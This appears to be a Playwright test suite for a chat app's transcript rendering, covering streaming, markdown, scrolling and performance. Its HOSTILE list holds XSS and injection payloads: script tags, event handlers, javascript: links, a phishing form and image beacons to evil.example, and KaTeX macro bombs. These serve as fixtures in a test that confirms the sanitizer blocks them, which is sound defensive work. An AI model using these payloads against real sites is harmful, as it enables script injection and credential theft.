"""The transcript in a real Chromium: what a reader sees, and what a hostile model cannot do."""
from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from benchmarks.main_thread import recording
from tests.browser.rendering_site import Site, open_page
from tests.costs.page import FAR_TOO_LONG

PROSE = 'One paragraph with a few words in it that fill a line or two on every screen there is.\n\n'
HOSTILE = [
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 1">',
    '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    '<iframe src="javascript:parent.hacked = 1" srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '[a](javascript:window.hacked=1) <javascript:window.hacked=1> [b](data:text/html,<script>1</script>) [c](&#106;avascript:hacked=1)',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<style>* { display: none !important } body { background: url(https://evil.example/s) }</style>',
    '<div style="position: fixed; inset: 0; z-index: 99999; background: red" class="to-latest">cover</div>',
    '![x](https://evil.example/track.png?secret=1) ![y](//evil.example/y.png) ![z](data:image/svg+xml,<svg onload=hacked=1>)',
    r'$\href{javascript:window.hacked=1}{x} \url{https://evil.example/} \includegraphics{https://evil.example/k.png}$',
    r'$\htmlStyle{position: fixed; inset: 0; z-index: 9999; background: red}{x} \htmlClass{to-latest}{y} \htmlData{a=b}{c}$',
    r'$$\rule{100000em}{100000em} \kern{99999em} \raisebox{-9999em}{x}$$',
    r'$\def\a{\a\a}\a$ $\def\b#1{#1#1#1}\b{\b{\b{\b{\b{\b{\b{x}}}}}}}$',
    '```"><script>window.hacked=1</script>\ncode <img src=x onerror=window.hacked=1>\n```',
    '```html\n<script>window.hacked = 1</script><img src=x onerror=window.hacked=1>\n```',
    '| <img src=x onerror=window.hacked=1> | b |\n|-|-|\n| <script>window.hacked=1</script> | ![t](https://evil.example/t.png) |',
    '[x]: javascript:window.hacked=1\n\n[x] and [settings](/settings) and [api](/api/chats)',
    '<a href="/settings" onclick="window.hacked=1">y</a>',
    '</div></article><button aria-label="Send">x</button>',
]


def shown_text(page: Page) -> str:
    return page.locator('[data-part="text"]').last.evaluate('element => element.textContent')


# -- what is shown

def test_text_arrives_with_a_cursor_at_its_end(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'Hello?'})
    expect(page.get_by_role('article', name='You')).to_have_text(re.compile('Hello'))
    expect(page.locator('[data-part="state"]').last).to_have_text(re.compile(r'Waiting \d+\.\d s'))
    site.stream('Hello **you**')
    reply = page.get_by_role('article', name='demo/fast')
    expect(reply.locator('strong')).to_have_text('you')
    expect(reply).to_have_attribute('data-status', 'writing')
    expect(reply.locator('[data-part="text"] > .cursor:last-child')).to_be_visible()
    site.play({'do': 'finish', 'tokens': 12})
    expect(reply.locator('.cursor')).to_have_count(0)
    expect(reply).to_have_attribute('data-status', 'done')
    expect(reply).to_have_attribute('data-model', 'demo/fast')
    expect(reply).to_contain_text('12 tokens')


@pytest.mark.parametrize('text', [
    ''.join(f'Line {i} with words that are all different: {i * 7919}.\n\n' for i in range(300)).strip(),
    '```python\n' + ''.join(f'x{i} = "{i}"  # é\n' for i in range(700)) + '```',
    'Snow ☃, 日本語, \U0001F469‍\U0001F469‍\U0001F467 and e\u0301. ' * 200,
    'x' * 20_000,
], ids=['paragraphs', 'code', 'unicode', 'one word'])
def test_every_letter_that_was_received_is_shown(page: Page, site: Site, text: str) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'all of it'})
    site.stream(text, rate=30_000, step=7)
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    page.wait_for_function('!document.querySelector("[data-unfinished]")')
    received = re.sub(r'\s+', ' ', text.removeprefix('```python\n').removesuffix('```')).strip()
    assert re.sub(r'\s+', ' ', shown_text(page)).strip() == received
    streamed = page.locator('[data-part="text"]').last.evaluate('element => element.innerText')
    open_page(page, site)
    assert page.locator('[data-part="text"]').last.evaluate('element => element.innerText') == streamed


def test_code_tables_tasks_and_formulas_are_drawn(page: Page, site: Site) -> None:
    fence = '```python\ndef f():\n    return "x"\n```'
    site.chat(('draw', f'{fence}\n\n|a|b|\n|-|-:|\n|1|2|\n\n- [x] done\n- [ ] open\n  ```js\n  let a = 1\n  ```\n\n$$x^2$$\n\n[l](https://example.org)'))
    open_page(page, site)
    text = page.locator('[data-part="text"]').last
    expect(text.locator('.code-head').first).to_have_attribute('data-language', 'python')
    expect(text.locator('.hljs-keyword')).to_have_text(['def', 'return', 'let'])
    expect(text.locator('td').last).to_have_text('2')
    expect(text.get_by_role('checkbox', checked=True)).to_have_count(1)
    expect(text.get_by_role('checkbox', disabled=True)).to_have_count(2)
    expect(text.locator('.formula .katex')).to_be_visible()
    link = text.get_by_role('link', name='l', exact=True)
    expect(link).to_have_attribute('target', '_blank')
    expect(link).to_have_attribute('rel', 'noopener noreferrer')


def test_a_table_of_many_columns_is_scrolled_and_a_small_one_fits_a_phone(page: Page, site: Site) -> None:
    page.set_viewport_size({'width': 390, 'height': 700})
    many = '| 7 | ' + 'A cell that holds a sentence of a few more words | ' * 8
    few = '| fast | 50 tokens/s | a first look at what it can do |'
    tables = [f'|{"a|" * row.count("| ")}\n|{"-|" * row.count("| ")}\n{row}' for row in (many, few + ' ')]
    site.chat(('tables', '\n\n'.join(tables)))
    open_page(page, site)
    wide, small = page.locator('.prose .table').all()
    assert wide.evaluate('table => table.scrollWidth > 3 * table.clientWidth')
    assert wide.locator('tr').last.evaluate('row => row.offsetHeight') < 120
    assert wide.locator('td').first.evaluate('cell => cell.offsetWidth') < 60
    assert small.evaluate('table => table.scrollWidth === table.clientWidth')


def test_formula_library_is_loaded_only_for_formulas(page: Page, site: Site) -> None:
    loaded: list[str] = []
    page.on('request', lambda request: loaded.append(request.url))
    site.chat(('money', 'It costs $5 and $10.'))
    open_page(page, site)
    expect(page.get_by_text('It costs $5 and $10.')).to_be_visible()
    assert not [url for url in loaded if 'katex' in url]
    site.play({'do': 'ask', 'prompt': 'formula'}, {'do': 'text', 'text': 'so $E=mc^2$ it is'})
    expect(page.locator('.formula .katex')).to_be_visible()


def test_a_link_defined_at_the_end_becomes_one(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'link'})
    site.stream('See [the page].\n\nMore.\n\n[the page]: https://example.org/\n')
    site.play({'do': 'finish'})
    expect(page.get_by_role('link', name='the page')).to_have_attribute('href', 'https://example.org/')


# -- scrolling and selecting

def test_the_page_follows_until_the_reader_scrolls_up(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'long'})
    site.stream(PROSE * 30, rate=20_000)
    at_end = '() => { const s = document.querySelector(".transcript-scroller"); return s.scrollHeight - s.clientHeight - s.scrollTop < 3 }'
    page.wait_for_function(at_end)
    page.mouse.move(400, 300)
    page.mouse.wheel(0, -300)
    jump = page.get_by_role('button', name='Jump to latest')
    expect(jump).to_be_visible()
    before = page.evaluate('document.querySelector(".transcript-scroller").scrollTop')
    site.stream(PROSE * 20, rate=20_000)
    expect(page.locator('[data-part="text"]').last.locator('p')).to_have_count(50)
    assert page.evaluate('document.querySelector(".transcript-scroller").scrollTop') == before
    jump.click()
    page.wait_for_function(at_end)
    site.stream(PROSE * 20, rate=20_000)
    expect(page.locator('[data-part="text"]').last.locator('p')).to_have_count(70)
    page.wait_for_function(at_end)
    expect(jump).to_be_hidden()


@pytest.mark.parametrize('width', [1000, 390])
def test_the_way_to_the_end_covers_nothing_and_moves_nothing(page: Page, site: Site, width: int) -> None:
    page.set_viewport_size({'width': width, 'height': 700})
    site.chat(('long', PROSE * 30))
    open_page(page, site)
    jump = page.get_by_role('button', name='Jump to latest')
    scroller = 'document.querySelector(".transcript-scroller")'
    at_end = f'{scroller}.scrollHeight - {scroller}.clientHeight - {scroller}.scrollTop < 3'
    expect(page.locator('.entry-foot').last).to_be_in_viewport()
    page.wait_for_function(at_end)
    place = 'document.querySelector(".prose p:last-child").getBoundingClientRect().top'
    page.mouse.move(200, 300)
    for wheel, is_shown in ((-40, False), (-20, True), (60, False)):
        before = page.evaluate(place)
        page.mouse.wheel(0, wheel)
        expect(jump).to_be_visible(visible=is_shown)
        page.wait_for_function(f'{place} === {before - wheel}')
    page.mouse.wheel(0, -60)
    expect(jump).to_be_visible()
    bottom = page.locator('.transcript-scroller').evaluate('one => one.getBoundingClientRect().bottom')
    assert bottom <= jump.evaluate('one => one.getBoundingClientRect().top')
    jump.click()
    expect(jump).to_be_hidden()
    page.wait_for_function(at_end)


def test_a_selection_survives_streaming(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'select'})
    site.stream('Finished words here.\n\n- a list that is still **growing')
    expect(page.locator('.prose li')).to_contain_text('growing')
    page.evaluate("""() => {
        const item = document.querySelector(".prose li").firstChild;
        getSelection().setBaseAndExtent(document.querySelector(".prose p").firstChild, 9, item, 6);
    }""")
    selected = page.evaluate('getSelection().toString()')
    site.stream('** and more\n- next\n\nand a paragraph\n\n' + PROSE * 5)
    expect(page.locator('.prose').last).to_contain_text('and a paragraph')
    assert page.evaluate('getSelection().toString()') == selected
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    assert page.evaluate('getSelection().toString()') == selected
    assert 'words here' in selected


def test_a_long_chat_shows_its_end_first_and_the_rest_on_scrolling_up(page: Page, site: Site) -> None:
    site.chat(*((f'question {i}', f'answer {i}\n\n' + PROSE * 3) for i in range(100)))
    open_page(page, site)
    expect(page.get_by_text('answer 99')).to_be_visible()
    expect(page.get_by_role('article')).to_have_count(30)
    scroll = 'document.querySelector(".transcript-scroller")'
    frames = '() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(true))))'
    page.evaluate(f'{scroll}.scrollTop = 2000')  # not so near the start that the heights found there bring more
    page.wait_for_function(frames)
    before = page.evaluate(f"""() => {{
        {scroll}.scrollTop = 590;
        window.watched = [...document.querySelectorAll("article")].find(article => article.getBoundingClientRect().top > 60);
        return window.watched.getBoundingClientRect().top;
    }}""")
    page.wait_for_function('document.querySelectorAll("article").length === 90')
    page.wait_for_function(frames)
    assert abs(page.evaluate('window.watched.getBoundingClientRect().top') - before) < 3
    site.play({'do': 'ask', 'prompt': 'one more'})
    expect(page.get_by_text('one more')).to_be_visible()
    expect(page.get_by_role('article')).to_have_count(92)


# -- what it costs

def test_two_thousand_lines_of_code_never_block_the_page(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    code = ''.join(f'    value_{i} = compute(value_{i - 1}, "text {i}")  # line {i}\n' for i in range(2000))
    with recording(page) as thread:
        site.play({'do': 'ask', 'prompt': 'code'})
        site.stream(f'```python\n{code}```\n', rate=40_000)
        site.play({'do': 'finish'})
        expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    assert page.locator('pre code').last.evaluate('element => element.textContent') == code
    assert 0 < thread.longest < FAR_TOO_LONG


def test_code_is_coloured_while_it_is_written(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'code'})
    code = ''.join(f'x{i} = "{i}"\n' for i in range(420))
    site.stream(f'```python\n{code}', rate=40_000)
    expect(page.locator('pre code > div')).to_have_count(9)
    expect(page.locator('.hljs-string')).to_have_count(420)
    site.stream('y = "more"\n```\n')
    expect(page.locator('.hljs-string')).to_have_count(421)
    assert page.locator('pre code').evaluate('element => element.textContent') == code + 'y = "more"\n'


def test_only_new_text_crosses_the_wire(page: Page, site: Site) -> None:
    sizes: list[int] = []
    page.on('websocket', lambda socket: socket.on('framereceived', lambda frame: sizes.append(len(frame))))
    site.chat()
    open_page(page, site)
    sizes.clear()
    site.play({'do': 'ask', 'prompt': 'long'})
    text = PROSE * (36_000 // len(PROSE))
    site.stream(text, rate=4500)
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    assert len(text) < sum(sizes) < 80_000


# -- what a hostile model cannot do

@pytest.mark.parametrize('is_streamed', [True, False], ids=['streamed', 'at once'])
def test_nothing_of_the_model_runs_loads_or_covers(page: Page, site: Site, *, is_streamed: bool) -> None:
    foreign: list[str] = []
    page.on('request', lambda request: foreign.append(request.url) if not request.url.startswith((site.url, 'data:', 'blob:')) else None)
    page.on('dialog', lambda dialog: foreign.append(dialog.message))
    text = '\n\n'.join(HOSTILE)
    if is_streamed:
        site.chat()
        open_page(page, site)
        site.play({'do': 'ask', 'prompt': 'attack'})
        site.stream(text, rate=3000, step=3)
        site.play({'do': 'finish'})
    else:
        site.chat(('attack', text))
        open_page(page, site)
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    expect(page.locator('.formula.is-filled').first).to_be_attached()
    for link in page.locator('.prose a').all():
        assert re.match('https?://|mailto:', link.get_attribute('href') or '')
        expect(link).to_have_attribute('target', '_blank')
    assert page.evaluate('window.hacked') is None
    assert foreign == []
    inside = 'document.querySelector(".prose")'
    assert page.evaluate(f'{inside}.querySelectorAll("script, img, iframe, style, form, object, [onerror], [onclick]").length') == 0
    covered = page.evaluate("""() => {
        const box = document.querySelector("#composer").getBoundingClientRect();
        return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2).id;
    }""")
    assert covered == 'composer'
    assert page.url.startswith(site.url)


def test_a_reload_in_mid_stream_shows_everything(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    text = ''.join(f'Word{i} ' for i in range(2000))
    site.play({'do': 'ask', 'prompt': 'reload'})
    site.play({'do': 'stream', 'text': text, 'rate': 8000}, {'do': 'finish'}, is_later=True)
    expect(page.get_by_role('article').last).to_contain_text('Word100 ')
    open_page(page, site)
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    assert shown_text(page).split() == text.split()
